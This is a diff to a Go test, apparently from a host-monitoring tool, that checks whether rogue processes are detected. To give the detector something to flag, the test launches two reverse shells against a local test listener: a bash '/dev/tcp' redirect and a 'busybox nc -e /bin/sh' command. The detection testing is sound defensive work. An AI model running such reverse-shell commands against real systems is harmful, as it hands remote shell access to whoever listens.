@@ -71,7 +71,7 @@ func TestSignsOfRogueProcesses(t *testing.T) {
 		t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
 		return cmd
 	}
-	bash := inServer("setsid", "bash", "-c", "exec bash -i >& /dev/tcp/"+peer.Addr().String()+"/4445 0>&1")
+	bash := inServer("setsid", "bash", "-c", "exec bash --noprofile --norc -i >& /dev/tcp/"+peer.Addr().String()+"/4445 0>&1")
 	nc := inServer("busybox", "nc", peer.Addr().String(), "4446", "-e", "/bin/sh")
 
 	// Copies of this test binary, each holding a listener.
@@ -200,7 +200,7 @@ func TestSignsOfRogueProcesses(t *testing.T) {
 	}
 	sum := verdict.Summarize(in.Judged, verdict.DefaultPolicy())
 	var check strings.Builder
-	if err := report.WriteCheck(&check, in.Judged, in.Raw, verdict.DefaultPolicy()); err != nil {
+	if err := report.WriteCheck(&check, in.Judged, report.Portless{Raw: in.Raw}, verdict.DefaultPolicy()); err != nil {
 		t.Fatal(err)
 	}
 	if sum.OK() || sum.FailingListeners > 0 || !strings.Contains(check.String(), "shell-on-socket") || !strings.Contains(check.String(), "signs of a rogue process") {
